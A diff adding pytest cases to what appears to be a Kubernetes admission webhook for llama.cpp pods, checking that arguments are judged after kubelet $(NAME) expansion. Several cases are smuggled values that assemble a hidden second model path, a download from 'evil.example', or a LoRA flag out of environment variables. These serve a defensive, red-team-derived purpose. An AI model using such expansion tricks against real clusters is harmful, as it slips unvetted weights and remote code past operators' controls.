@@ -405,3 +405,54 @@ def test_a_pod_that_loads_code_or_weights_beside_the_checked_runtime_is_refused(
     assert not decision.allowed and said in decision.message, decision.message
     warned = judge(mutated(pod, NS, lookup, services, allow=True), allow_weight_paths=True)
     assert warned.allowed and said in warned.warnings[0], warned
+
+
+def _expanded(extra: list[str], env: list[dict[str, Any]]) -> Pod:
+    pod = cached_pod(NS, "svc", "one", SOURCE, extra=extra)
+    pod["spec"]["containers"][0]["env"] = env
+    return mutated(pod, NS, lookup, services)
+
+
+SECRET = {"valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}
+
+
+@pytest.mark.parametrize(
+    ("extra", "env", "said"),
+    [
+        # the kubelet passes "--model /tmp/evil.gguf -mu https://...": llama.cpp downloads and serves it
+        (["$(A)", "/tmp/evil.gguf", "$(B)", "https://evil.example/e.gguf"],
+         [{"name": "A", "value": "--model"}, {"name": "B", "value": "-mu"}], "the runtime is given 2 model paths"),
+        (["--lo$(X)", "/models/x/a.gguf"], [{"name": "X", "value": "ra"}], "loads --lora '/models/x/a.gguf'"),
+        (["$(B)", "/models/x/a.gguf"], [{"name": "A", "value": "--lora"}, {"name": "B", "value": "$(A)"}],
+         "loads --lora '/models/x/a.gguf'"),
+        (["$(A)", "org/evil"], [{"name": "A", **SECRET}], "is given '$(A)': the kubelet fills $(NAME) in"),
+        (["--$(A)"], [], "is given '--$(A)': the kubelet fills $(NAME) in"),
+        (["--port", "8080", "$(KUBERNETES_PORT)"], [], "is given '$(KUBERNETES_PORT)'"),
+    ],
+)  # fmt: skip
+def test_arguments_are_read_as_the_kubelet_passes_them(
+    extra: list[str], env: list[dict[str, Any]], said: str
+) -> None:
+    """Red team 2: the kubelet expands $(NAME) in a container's args; the webhook read them as written,
+    so a weight flag or a second --model assembled from the environment was admitted."""
+    decision = judge(_expanded(extra, env))
+    assert not decision.allowed and said in decision.message, decision.message
+
+
+def test_the_model_path_is_the_expanded_one_and_the_verifier_is_given_it_literally() -> None:
+    env = [{"name": "DIR", "value": f"/models/{cache_key(SOURCE)}"}, {"name": "KEY", **SECRET}]
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["containers"][0]["args"][1] = "$(DIR)/one.gguf"
+    pod["spec"]["containers"][0]["args"] += ["--api-key=$(KEY)"]  # a hidden value of a written-out flag
+    pod["spec"]["containers"][0]["env"] = env
+    pod = mutated(pod, NS, lookup, services)
+    assert judge(pod).allowed and verifier(pod)["args"][-1] == MODEL_PATH
+    dollar = cached_pod(NS, "svc", "one", SOURCE)
+    dollar["spec"]["containers"][0]["args"][1] = (
+        f"/models/{cache_key(SOURCE)}/$$(X).gguf"  # llama.cpp gets $(X)
+    )
+    dollar = mutated(dollar, NS, lookup, services)
+    assert judge(dollar).allowed
+    assert (
+        verifier(dollar)["args"][-1] == f"/models/{cache_key(SOURCE)}/$$(X).gguf"
+    )  # so verify-files gets $(X)
